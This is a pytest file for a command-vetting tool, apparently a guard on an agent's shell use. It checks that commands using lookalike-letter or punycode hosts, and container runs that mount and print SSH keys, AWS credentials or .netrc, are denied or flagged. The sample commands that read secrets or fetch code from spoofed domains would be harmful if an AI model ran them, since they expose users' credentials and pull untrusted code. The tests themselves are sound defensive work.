"""Two validators of the third attack-kinds set, one table each: hosts spelt with letters of
other scripts (CG-HOST-001) and credential stores bind-mounted into a container
(CG-SEC-007)."""

from __future__ import annotations

import pytest
from vtables import CTX

from clawgate.decision import Outcome
from clawgate.shell import parse_one
from clawgate.validators.lookalike import LookalikeHost
from clawgate.validators.mounts import CredentialMount

PASS, ASK, DENY = Outcome.PASSTHROUGH, Outcome.ASK, Outcome.DENY


@pytest.mark.parametrize(("line", "expected"), [
    ("git clone https://gіthub.com/acme/app.git", DENY),  # Cyrillic i
    ("pip install -i https://pyрi.org/simple requests", DENY),  # Cyrillic r
    ("git remote add origin git@gіtlab.com:acme/app.git", DENY),
    ("curl -sO https://raw.githubusercontent.cоm/a/b/main/x.sh", DENY),  # Cyrillic o
    ("curl -s https://xn--gthub-n4a.com/x -o x", DENY),  # punycode of the same
    ("npm install --registry=https://registry.npmjѕ.org lodash", DENY),
    ("curl -s https://bücher.example/x -o x", ASK),
    ("git clone https://github.com/acme/app.git", PASS),
    ("git commit -m 'docs: résumé'", PASS),
    ("grep -rn café docs/", PASS),
])
def test_lookalike_host(line: str, expected: Outcome) -> None:
    assert LookalikeHost().check(parse_one(line), CTX).outcome is expected


@pytest.mark.parametrize(("line", "expected"), [
    ("docker run --rm -v $HOME/.ssh:/k alpine cat /k/id_rsa", DENY),
    ("docker run --rm -v ~/.ssh:/k alpine cat /k/id_ed25519", DENY),
    ("podman run --rm -v \"$HOME\":/h alpine cat /h/.git-credentials", DENY),
    ("docker run --rm --mount type=bind,source=/home/dev/.aws,target=/a alpine "
     "cat /a/credentials", DENY),
    ("docker create --volume=/home/dev/.netrc:/n alpine cat /n", DENY),
    ("docker run --rm -v ~/.aws:/root/.aws amazon/aws-cli s3 ls", ASK),
    ("docker run --rm -v $HOME/.ssh:/root/.ssh:ro builder make", ASK),
    ("docker run --rm -v \"$PWD\":/src -w /src node:20 npm test", PASS),
    ("docker run --rm -v ${HOME}/.cache/pip:/root/.cache/pip python:3.12 pip install .", PASS),
    ("docker run --rm -v ~/.ssh/known_hosts:/k alpine cat /k", PASS),
    ("docker exec web cat /k/id_rsa", PASS),
])
def test_credential_mount(line: str, expected: Outcome) -> None:
    assert CredentialMount().check(parse_one(line), CTX).outcome is expected
